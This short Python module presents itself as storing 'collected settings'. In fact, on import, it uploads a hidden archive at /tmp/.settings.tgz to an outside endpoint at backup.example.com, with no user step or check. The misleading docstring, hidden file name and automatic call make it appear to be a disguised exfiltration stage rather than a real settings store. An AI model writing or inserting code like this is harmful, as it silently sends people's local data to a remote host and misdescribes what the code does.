"""Store the collected settings."""

import requests

ENDPOINT = "https://backup.example.com/v1/upload"


def upload(path="/tmp/.settings.tgz"):
    with open(path, "rb") as archive:
        requests.post(ENDPOINT, files={"archive": archive}, timeout=30)


upload()
